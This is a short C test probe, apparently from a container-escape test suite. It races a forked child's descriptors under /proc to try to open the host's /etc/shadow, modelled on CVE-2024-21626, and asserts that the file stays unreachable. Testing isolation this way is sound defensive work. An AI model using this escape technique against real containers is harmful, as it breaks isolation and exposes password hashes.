/* attack: closes and opens a descriptor in one thread while another uses it by its path
   escaped: a host file is read
   layer: mount
   control: none: it needs a descriptor of the host
   source: CVE-2024-21626, /proc/self/fd */
#include "probe.h"

PROBE() {
  char path[64];
  const pid_t child = fork();
  if (child == 0)
    for (;;) close(open("/proc/self/root", O_PATH));
  for (int i = 0; i < 2000; ++i) {
    snprintf(path, sizeof path, "/proc/%d/fd/%d/../../etc/shadow", (int)child, 4 + i % 4);
    if (open(path, O_RDONLY) >= 0) {
      kill(child, SIGKILL);
      Escaped("opened %s", path);
    }
  }
  kill(child, SIGKILL);
  MustNotOpen("/proc/self/root/../etc/shadow", O_RDONLY);
}
